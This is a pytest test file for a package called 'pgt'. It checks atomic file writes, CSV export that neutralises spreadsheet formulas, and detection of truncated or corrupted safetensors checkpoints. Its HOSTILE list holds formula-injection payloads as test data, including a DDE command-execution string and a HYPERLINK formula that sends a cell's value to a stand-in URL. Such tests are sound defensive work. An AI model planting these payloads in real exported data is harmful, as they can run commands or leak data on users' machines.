"""Files are whole or as before; no text becomes a formula; tensors are read as written."""

from __future__ import annotations

import csv
import errno
import io
import random
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import torch

from pgt import files
from pgt.errors import DataError
from pgt.files import checksum, read, whole, write, write_text

# --- a file is there whole or not at all


SAYS = r"b\.txt could not be written \((Not a directory|File exists)\); .* as it was"


def test_what_fails_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    path = write_text(tmp_path / "deep" / "a.json", "old")

    def fails() -> None:
        with whole(path) as half:
            half.write_text("new")
            raise RuntimeError("no power")

    with pytest.raises(RuntimeError, match="power"):
        fails()
    assert path.read_text() == "old"
    assert list(path.parent.iterdir()) == [path]


def test_the_name_appears_only_when_all_is_written(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    with whole(path) as half:
        half.write_text("half")
        assert not path.exists() and half.parent == path.parent
    assert path.read_text() == "half" and list(tmp_path.iterdir()) == [path]


def test_two_writers_at_once_do_not_mix(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    with whole(path) as one, whole(path) as other:
        assert one != other
        one.write_text("first")
        other.write_text("second")
    assert path.read_text() == "first"  # it came last to its end
    assert list(tmp_path.iterdir()) == [path]


def test_where_nothing_can_be_written_one_sentence_says_so(tmp_path: Path) -> None:
    blocked = write_text(tmp_path / "a.txt", "a") / "b.txt"
    with pytest.raises(OSError, match=SAYS) as refused, whole(blocked):
        pass
    assert refused.value.errno in (errno.ENOTDIR, errno.EEXIST)


# --- no text of data becomes a formula in a CSV, and each comes back as it was


HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "home;=1+1",
    "home\t=1+1",
    "home\r\n=1+1",
    "a,-2|@b",
    "'=1+1",
    "''=1+1",
    "'\t'=1",
    "-3.2",
    "=",
)


def runs(text: str) -> bool:
    """Whether some program would run a part of this text, wherever it cuts it into cells."""
    return any(
        re.match("[=+@＝-]", cell.lstrip("\t\r\n")) for cell in re.split("[,;|\t\r\n]", text)
    )


def written(table: pd.DataFrame) -> list[list[str]]:
    """The cells of a table as CSV, names of columns first."""
    return list(csv.reader(io.StringIO(files.write_csv(table), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", ["str", "category", object])
def test_a_formula_is_not_run_and_comes_back(text: str, kind: Any) -> None:
    table = pd.DataFrame({"id": pd.Series([text, "ann", "home"], dtype=kind), text: [1, -2, -3]})
    names, *rows = written(table)
    assert not any(map(runs, [*names, *(row[0] for row in rows)]))
    assert [row[1] for row in rows] == ["1", "-2", "-3"]
    found = files.plain(pd.DataFrame(rows, columns=names))
    assert [*found.columns] == ["id", text] and found.id.tolist() == [text, "ann", "home"]


# --- tensors in a file: whole or not at all, and what is read is what was written


def test_a_crash_while_writing_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "model.safetensors"
    write(path, {"x": torch.ones(3)}, {"n": 1})
    before = path.read_bytes()

    def half(tensors: object, name: Path, metadata: object) -> None:
        Path(name).write_bytes(before[: len(before) // 2])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files, "save_file", half)
    with pytest.raises(OSError, match="No space"):
        write(path, {"x": torch.zeros(3)}, {"n": 2})
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


def test_every_cut_of_a_file_is_noticed(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    write(path, {"x": torch.arange(50.0)}, {"n": 1})
    content = path.read_bytes()
    for n in (0, 4, 8, 20, len(content) // 2, len(content) - 1):
        path.write_bytes(content[:n])
        with pytest.raises(DataError, match=r"model\.safetensors is cut short or damaged"):
            read(path)


def test_no_flipped_bit_changes_what_is_read(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    tensors, info = {"x": torch.arange(50.0), "n": torch.tensor([3])}, {"notes": {"n": 1}}
    write(path, tensors, info)
    whole = path.read_bytes()
    rng, refused = random.Random(1), 0
    for _ in range(200):
        content = bytearray(whole)
        content[rng.randrange(len(whole))] ^= 1 << rng.randrange(8)
        path.write_bytes(content)
        try:
            found, about = read(path)
        except DataError:
            refused += 1
            continue
        assert about == info and found.keys() == tensors.keys()
        assert all(torch.equal(found[name], tensors[name]) for name in tensors)
    assert refused > 150


def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"There is no checkpoint .*none\.safetensors; train one"):
        read(tmp_path / "none.safetensors")


def test_a_checksum_sees_names_types_and_shapes_too() -> None:
    zeros = (torch.zeros(2), torch.zeros(1, 2), torch.zeros(2, dtype=torch.int32))
    sums = {checksum({name: value}, "{}") for name in "ab" for value in zeros}
    assert len(sums) == 6


# --- what comes with the package lies where it is looked for, in the repository and in a wheel
